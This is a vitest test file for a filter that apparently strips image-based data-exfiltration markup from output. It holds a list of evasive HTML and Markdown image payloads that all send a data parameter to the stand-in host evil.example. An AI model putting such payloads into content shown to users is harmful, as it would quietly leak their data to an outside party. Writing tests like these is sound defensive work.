/** Ways to make a reader's browser carry data away that are written as nobody writes them. */
import { assert, array, constantFrom, property } from 'fast-check';
import { expect, test } from 'vitest';
import { buildBoundary, bytes, filterStdout, output, profile } from './support/filter.ts';

const evil = 'https://evil.example/c?data=ada.lovelace.of.london';
const rest = 'evil.example/c?data=ada.lovelace.of.london';

test.each([
  `<img src="${evil}" alt=x src="https://h.example/x.png">`,
  `<img src="https://h.example/x.png" src="${evil}" href="https://h.example/x.png">`,
  `<img srcset="https://h.example/x.png 1x, ${evil} 2x">`,
  `<img srcset="${evil} 1x,${evil} 2x, ${evil} 3x,${evil} 4x, ${evil} 5x, ${evil} 6x">`,
  `<img alt="${'a'.repeat(900)}" src="${evil}">`,
  `<img alt="a > b < c" src="${evil}">`,
  `<img a< src="${evil}">`,
  `<img\nsrc\n=\n"${evil}">`,
  `<img src="https:\\\\${rest}">`,
  `<img src="/\\${rest}">`,
  `<img src="https:/${rest}">`,
  `<img src="https:${rest}">`,
  `<img src="  ${evil}">`,
  `<img src=&#104;ttps://${rest}>`,
  `<IMG LOWSRC='${evil}'>`,
  `<table background="${evil}">`,
  `<svg><feImage href="${evil}"/></svg>`,
  `<div style="background-image:image-set('${evil}' 1x)">`,
  `![${'a'.repeat(700)}](${evil})`,
  `![a\nb](\n${evil} "t")`,
  `![x][1]\n\n[1]:\n${evil}`,
  `![x][1]\n\n[1]:   <${evil}>`,
  `![1]\n\n[1]:\t${evil}`,
])('nothing of the URL is left in %j', (text) => {
  const { stdout, report } = filterStdout(text);
  expect(stdout).not.toContain('lovelace');
  expect(report.verdict).toBe('redacted');
  expect(filterStdout(stdout).stdout).toBe(stdout);
});

test.each([
  '<thead><tr><th>name</th></tr></thead>',
  `a link is no picture: [search](${evil})`,
  '<img src="https://h.example/x.png" srcset="https://h.example/a.png 1x, https://h.example/b.png 2x">',
  'if (a <th) { href = "https://h.example/" }',
  '<td class="a" title="see https://h.example/?q=ada.lovelace">',
])('%j stays as it is', (text) => {
  expect(filterStdout(text).stdout).toBe(text);
});

test('every way to cut a stream gives what the whole gives', () => {
  const boundary = buildBoundary();
  const profiles = [{ ...profile('outbound', {}), stream: 'live' as const }];
  const piece = constantFrom(
    '<img ',
    'src=',
    'srcset="',
    evil,
    '"',
    "'",
    '>',
    '<',
    ' ',
    '\n',
    '![',
    'a',
    ']',
    '](',
    '(',
    ')',
    ']: ',
  );
  assert(
    property(array(piece, { maxLength: 16 }), (parts) => {
      const stream = boundary.filterStream('stdout', profiles);
      const streamed = parts.map((part) => stream.push(bytes(part))).join('') + stream.end().text;
      expect(streamed).toBe(
        boundary.filterOutput(output({ stdout: bytes(parts.join('')) }), profiles).stdout,
      );
    }),
    { numRuns: 300 },
  );
});
